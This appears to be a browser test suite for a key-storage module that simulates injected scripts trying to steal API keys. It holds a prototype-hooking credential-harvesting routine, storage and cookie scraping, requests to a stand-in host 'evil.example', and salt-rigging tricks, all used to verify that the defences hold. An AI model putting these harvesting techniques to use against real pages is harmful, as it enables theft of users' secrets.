/**
 * Scripts that were injected into the page, after the module was loaded: they read storage, replace what the browser gave,
 * listen everywhere, call everything, and speak to workers. None of them gets a key that is at the site or under a passkey;
 * the same net does catch one that lies in the browser in the clear, so it would have.
 *
 * What such a script can do is written down in docs/browser.md: it can use a key, read what is typed, and ask for the passkey
 * by itself, which the person then sees.
 */

import assert from 'node:assert/strict';
import { makeKey } from '../keys.mjs';
import { MEMBER, VISITOR, authenticator, open, paste, reads, test } from './harness.mjs';
import { requests } from './provider.mjs';

/**
 * Runs in the page. Replaces whatever can be replaced by something that writes down what passes through, and puts getters
 * where lookups could lead. It collects into window.loot.
 */
function net() {
	const loot = window.loot = new Set();
	const stringify = JSON.stringify.bind( JSON );
	const decoder = new TextDecoder( 'latin1' );
	const call = Function.prototype.call.bind( Function.prototype.call );
	const describe = Object.getOwnPropertyDescriptor;
	const define = Object.defineProperty;
	const NativeArray = Uint8Array;
	const { apply, construct, ownKeys } = Reflect;
	const { isView } = ArrayBuffer;
	let deep = 0;
	// Writes down a value with all that it holds.
	const steal = ( value, level = 0 ) => {
		if ( deep > 50 || level > 4 ) {
			return;
		}
		deep++;
		try {
			if ( typeof value === 'string' ) {
				loot.add( value );
			} else if ( value instanceof ArrayBuffer || isView( value ) ) {
				const bytes = value instanceof ArrayBuffer ? new NativeArray( value ) : new NativeArray( value.buffer, value.byteOffset, value.byteLength );
				loot.add( call( TextDecoder.prototype.decode, decoder, bytes ) );
				let hex = '';
				for ( let i = 0; i < bytes.length; i++ ) {
					hex += bytes[ i ].toString( 16 ).padStart( 2, '0' );
				}
				loot.add( 'bytes:' + hex );
			} else if ( value instanceof Headers ) {
				value.forEach( ( text ) => loot.add( text ) );
			} else if ( typeof PublicKeyCredential === 'function' && value instanceof PublicKeyCredential ) {
				steal( value.getClientExtensionResults(), level + 1 );
			} else if ( value instanceof Event && value.target instanceof Worker && value.target !== window.own ) {
				loot.add( 'the worker itself' );
			} else if ( typeof value === 'object' && value !== null ) {
				for ( const name of ownKeys( value ) ) {
					const property = describe( value, name );
					if ( property && 'value' in property ) {
						steal( property.value, level + 1 );
					}
				}
			}
		} catch { /* It wants nothing but what it can get. */ } finally {
			deep--;
		}
	};
	let inside = false;
	const watch = ( owner, name ) => {
		const property = describe( owner, name );
		if ( property?.configurable && property.get && typeof owner !== 'function' ) {
			// Who is asked for a property is told of, too, and what it says.
			define( owner, name, { ...property, get() {
				const value = apply( property.get, this, [] );
				if ( ! inside ) {
					inside = true;
					steal( this );
					steal( value );
					inside = false;
				}
				return value;
			} } );
			return;
		}
		if ( ! property?.configurable || typeof property.value !== 'function' || name === 'constructor' ) {
			return;
		}
		const real = property.value;
		const fake = function ( ...args ) {
			if ( ! inside ) {
				inside = true;
				steal( this );
				for ( let i = 0; i < args.length; i++ ) {
					steal( args[ i ] );
				}
				inside = false;
			}
			const result = new.target ? construct( real, args, new.target === fake ? real : new.target ) : apply( real, this, args );
			if ( ! inside ) {
				inside = true;
				steal( result );
				inside = false;
			}
			return result;
		};
		fake.prototype = real.prototype;
		Object.setPrototypeOf( fake, real );
		try {
			define( owner, name, { ...property, value: fake } );
		} catch { /* Then not. */ }
	};
	for ( const name of [ 'fetch', 'Worker', 'SharedWorker', 'MessageChannel', 'Headers', 'Request', 'Response', 'ReadableStream', 'TextEncoder', 'TextDecoder', 'Blob', 'Uint8Array', 'ArrayBuffer', 'URL', 'structuredClone', 'atob', 'btoa', 'postMessage', 'setTimeout', 'queueMicrotask' ] ) {
		watch( window, name );
	}
	const prototypes = [ Promise, Array, Map, Set, String, RegExp, Function, ArrayBuffer, NativeArray, Object.getPrototypeOf( NativeArray ), Headers, Request, Response, Worker, MessagePort, EventTarget, Storage, SubtleCrypto, Crypto, CredentialsContainer, PublicKeyCredential, MessageEvent, Event, TextEncoder, TextDecoder, ReadableStream, HTMLInputElement, Object ];
	for ( const { prototype } of prototypes ) {
		for ( const name of Reflect.ownKeys( prototype ) ) {
			// Functions that this net itself stands on stay; the net is no less wide for it.
			if ( ! [ 'toString', 'padStart', 'add', 'hasOwnProperty', 'call', 'apply', 'bind', 'propertyIsEnumerable', 'isPrototypeOf', 'valueOf', 'toLocaleString', Symbol.hasInstance ].includes( name ) ) {
				watch( prototype, name );
			}
		}
	}
	watch( JSON, 'stringify' );
	watch( JSON, 'parse' );
	watch( Reflect, 'apply' );
	watch( Object, 'entries' );
	watch( Object, 'getOwnPropertyDescriptor' );
	watch( Object, 'freeze' );
	// Where lookups lead that find nothing nearer.
	for ( const name of [ 'then', 'toJSON', 'secret', 'key', 'first', 'results', 'prf', 'enabled', 'credentials', 'transfer', 'signal', 'mode' ] ) {
		define( Object.prototype, name, {
			configurable: true,
			get() {
				if ( ! inside ) {
					inside = true;
					steal( this );
					inside = false;
				}
				return undefined;
			},
			set( value ) {
				define( this, name, { value, configurable: true, enumerable: true, writable: true } );
			},
		} );
	}
	// Who is asked what kind an object is, gets the object.
	for ( const type of [ ArrayBuffer, NativeArray ] ) {
		define( type, Symbol.hasInstance, { configurable: true, value( object ) {
			loot.add( 'asked' );
			return Function.prototype[ Symbol.hasInstance ].call( type, object );
		} } );
	}
	define( Promise, Symbol.species, { configurable: true, get() {
		return class extends this {
			constructor( run ) {
				super( ( resolve, reject ) => run( ( value ) => {
					steal( value );
					resolve( value );
				}, reject ) );
			}
		};
	} } );
	window.addEventListener( 'message', ( { data } ) => steal( data ), true );
	document.addEventListener( 'byok-change', ( { detail } ) => steal( detail ), true );
	window.stringify = stringify;
}

/** Runs in the page: reads all that lies around and calls all that the module has. */
async function search() {
	const { loot } = window;
	const add = ( value ) => loot.add( typeof value === 'string' ? value : window.stringify( value ) ?? String( value ) );
	add( { ...localStorage } );
	add( { ...sessionStorage } );
	add( document.cookie );
	const walk = ( root ) => {
		add( root.innerHTML ?? '' );
		for ( const element of root.querySelectorAll( '*' ) ) {
			add( element.value ?? '' );
			if ( element.shadowRoot ) {
				walk( element.shadowRoot );
			}
		}
	};
	walk( document );
	// The elements and what hangs on them, the module, and one made anew.
	const module = await import( '/assets/byok.module.js' );
	const found = [ module.createBYOK(), document.querySelector( 'byok-settings' ).byok ];
	for ( const byok of found ) {
		for ( const object of [ byok, byok.keys, byok.options ] ) {
			for ( let at = object; at && at !== Object.prototype; at = Object.getPrototypeOf( at ) ) {
				for ( const name of Reflect.ownKeys( at ) ) {
					try {
						add( object[ name ] );
					} catch { /* Private. */ }
				}
			}
		}
		for ( const ask of [
			() => byok.getHeaders(), () => byok.getHeaders( 'anthropic' ), () => byok.keys.headers( 'anthropic' ), () => byok.keys.list(), () => byok.keys.info( 'anthropic' ),
			() => byok.fetch( '/models' ).then( ( answer ) => answer.text() ),
			() => byok.fetch( '/models', { headers: { 'x-api-key': 'x', 'x-echo': 'y' } } ).then( ( answer ) => [ ...answer.headers ] ),
			() => byok.fetch( 'https://evil.example/' ).then( String ),
			() => byok.fetch( '//evil.example/' ).then( String ),
			() => byok.fetch( '/../../../evil' ).then( String ),
			() => byok.fetch( '/models', { provider: 'mistral' } ).then( String ),
			() => byok.keys.check( 'anthropic' ),
			() => byok.keys.models( 'anthropic' ),
		] ) {
			try {
				add( await ask() );
			} catch ( error ) {
				add( String( error.message ) );
			}
		}
	}
	// Where keys are sent cannot be changed.
	try {
		module.PROVIDERS.find( ( { id } ) => id === 'anthropic' ).base_url = 'https://evil.example';
	} catch { /* It is frozen. */ }
	add( module.PROVIDERS );
	// A worker of one's own, from the same file, knows nothing.
	const entry = localStorage[ 'byok:v1:key:anthropic' ];
	if ( entry?.includes( 'sealed' ) ) {
		const { sealed } = JSON.parse( entry );
		const bytes = ( text ) => Uint8Array.from( atob( text ), ( letter ) => letter.charCodeAt( 0 ) );
		const own = window.own = new Worker( '/assets/byok.worker.js' );
		own.onmessage = ( { data } ) => add( data );
		own.postMessage( { id: 1, do: 'send', provider: 'anthropic', sealed: { salt: bytes( sealed.salt ), nonce: bytes( sealed.nonce ), data: bytes( sealed.data ) }, request: { method: 'GET', path: '/models', headers: [], body: null } } );
		await new Promise( ( done ) => setTimeout( done, 300 ) );
		own.terminate();
		// An entry that is made to look like one in the clear.
		localStorage[ 'byok:v1:key:anthropic' ] = window.stringify( { ...JSON.parse( entry ), mode: 'browser' } );
		try {
			add( await module.createBYOK().getHeaders() );
		} catch { /* None. */ }
		localStorage[ 'byok:v1:key:anthropic' ] = entry;
	}
	return [ ...loot ];
}

/** What is at rest, and the part of a passkey's answer that opens it, in what was stolen. */
const caught = ( loot, key ) => loot.filter( ( text ) => text.includes( key.slice( -28, -4 ) ) || text.includes( Buffer.from( key.slice( -28, -4 ) ).toString( 'hex' ) ) ).length;

export async function attack() {
	await test( 'attack: the net catches a key that lies in the browser in the clear', async ( page ) => {
		const it = await open( page );
		const key = makeKey( 'anthropic', 'valid' );
		await paste( it, key, 'browser' );
		await reads( it.chip, 'Works' );
		await page.evaluate( net );
		assert.notEqual( caught( await page.evaluate( search ), key ), 0 );
	} );

	for ( const [ who, config ] of [ [ 'a member', MEMBER ], [ 'a visitor', VISITOR ] ] ) {
		await test( `attack: a key that ${ who } has at the site is not found`, async ( page ) => {
			const it = await open( page, config );
			const key = makeKey( 'anthropic', 'valid' );
			await paste( it, key, 'site' );
			await reads( it.chip, 'Works' );
			await page.evaluate( net );
			assert.equal( caught( await page.evaluate( search ), key ), 0 );
			// After a reload, too, with the script there from the beginning of the form.
			await page.reload();
			await page.waitForSelector( 'html[data-ready]' );
			await page.evaluate( net );
			await reads( it.chip, 'Works' );
			assert.equal( caught( await page.evaluate( search ), key ), 0 );
		} );
	}

	await test( 'attack: an unlocked key under a passkey is used, and not found', async ( page ) => {
		await authenticator( page );
		const it = await open( page );
		const key = makeKey( 'anthropic', 'valid' );
		await paste( it, key, 'passkey' );
		await reads( it.chip, 'Works' );
		await page.evaluate( net );
		const loot = await page.evaluate( search );
		assert.equal( caught( loot, key ), 0 );
		assert.ok( loot.length > 100, 'the net has caught nothing at all' );
		assert.equal( loot.includes( 'the worker itself' ), false, 'it can speak to the worker' );
		assert.ok( loot.some( ( text ) => text.includes( 'claude-test' ) ), 'the script used the key' );
		assert.ok( requests.length > 0 && requests.every( ( { host } ) => host === 'api.anthropic.com' ) );
	} );

	await test( 'attack: a script that watches while the passkey is asked gets nothing that opens the key', async ( page ) => {
		await authenticator( page );
		const it = await open( page );
		const key = makeKey( 'anthropic', 'valid' );
		await paste( it, key, 'passkey' );
		await reads( it.chip, 'Works' );
		await page.reload();
		await page.waitForSelector( 'html[data-ready]' );
		await reads( it.chip, 'Locked' );
		await page.evaluate( net );
		await it.button( 'Unlock' ).click();
		await reads( it.chip, 'Works' );
		const loot = await page.evaluate( search );
		assert.equal( caught( loot, key ), 0 );
		assert.ok( loot.some( ( text ) => text.includes( 'claude-test' ) ), 'it was not unlocked' );

		const { opened, secret } = await asked( page );
		assert.equal( JSON.parse( opened ).key, key, 'the test knows how it is locked' );
		assert.equal( JSON.parse( opened ).target.base, 'https://api.anthropic.com/v1' );
		assert.equal( loot.some( ( text ) => text.includes( secret ) ), false, 'what the passkey told was stolen' );
	} );

	await test( 'attack: the worker takes what a passkey told once only', async ( page ) => {
		await open( page );
		assert.deepEqual( await page.evaluate( () => new Promise( ( done ) => {
			const own = new Worker( '/assets/byok.worker.js' );
			const answers = {};
			own.onmessage = ( { data } ) => {
				answers[ data.id ] = data.reason ?? data.is;
				if ( Object.keys( answers ).length === 3 ) {
					done( answers );
				}
			};
			for ( const [ id, length ] of [ [ 1, 16 ], [ 2, 32 ], [ 3, 32 ] ] ) {
				own.postMessage( { id, do: 'open', secret: new ArrayBuffer( length ) } );
			}
		} ) ), { 1: 'passkey_unsupported', 2: 'done', 3: 'passkey_unsupported' } );
	} );

	await test( 'attack: a script that watches while a passkey is made gets nothing that opens what is locked with it', async ( page ) => {
		await authenticator( page );
		const it = await open( page );
		await page.evaluate( net );
		// It asks along with the question, for a salt that it knows and would have the module take.
		await page.evaluate( () => {
			const { getRandomValues } = Crypto.prototype;
			Crypto.prototype.getRandomValues = function ( bytes ) {
				return bytes.length === 32 ? bytes.fill( 7 ) : getRandomValues.call( this, bytes );
			};
			const first = new Uint8Array( 32 ).fill( 7 );
			for ( const [ name, value ] of [ [ 'eval', { first } ], [ 'evalByCredential', undefined ] ] ) {
				Object.defineProperty( Object.prototype, name, { value, configurable: true, writable: true } );
			}
		} );
		const key = makeKey( 'anthropic', 'valid' );
		await paste( it, key, 'passkey' );
		await reads( it.chip, 'Works' );
		const loot = await page.evaluate( () => [ ...window.loot ] );
		assert.ok( loot.length > 100, 'the net has caught nothing at all' );
		const { opened, secret, salt } = await asked( page );
		assert.equal( JSON.parse( opened ).key, key, 'the test knows how it is locked' );
		assert.notEqual( salt, '07'.repeat( 32 ), 'the script has chosen the salt' );
		assert.equal( loot.some( ( text ) => text.includes( secret ) ), false, 'what the passkey told was stolen' );
	} );
}

/** What the passkey tells, asked for in the open, as no script can do unseen; and that it opens the entry. */
function asked( page ) {
	return page.evaluate( async () => {
		const bytes = ( text ) => Uint8Array.from( atob( text ), ( letter ) => letter.charCodeAt( 0 ) );
		const { id, salt } = JSON.parse( localStorage[ 'byok:v1:passkey' ] );
		const { sealed } = JSON.parse( localStorage[ 'byok:v1:key:anthropic' ] );
		const credential = await navigator.credentials.get( { publicKey: { challenge: new Uint8Array( 32 ), allowCredentials: [ { type: 'public-key', id: bytes( id ) } ], userVerification: 'required', extensions: { prf: { eval: { first: bytes( salt ) } } } } } );
		const { first } = credential.getClientExtensionResults().prf.results;
		const root = await crypto.subtle.importKey( 'raw', first, 'HKDF', false, [ 'deriveKey' ] );
		const info = new TextEncoder().encode( 'byok/browser/v1/anthropic' );
		const cipher = await crypto.subtle.deriveKey( { name: 'HKDF', hash: 'SHA-256', salt: bytes( sealed.salt ), info }, root, { name: 'AES-GCM', length: 256 }, false, [ 'decrypt' ] );
		const plain = await crypto.subtle.decrypt( { name: 'AES-GCM', iv: bytes( sealed.nonce ), additionalData: info }, cipher, bytes( sealed.data ) );
		const hex = ( buffer ) => [ ...new Uint8Array( buffer ) ].map( ( byte ) => byte.toString( 16 ).padStart( 2, '0' ) ).join( '' );
		return { opened: new TextDecoder().decode( plain ), secret: hex( first ), salt: hex( bytes( salt ) ) };
	} );
}
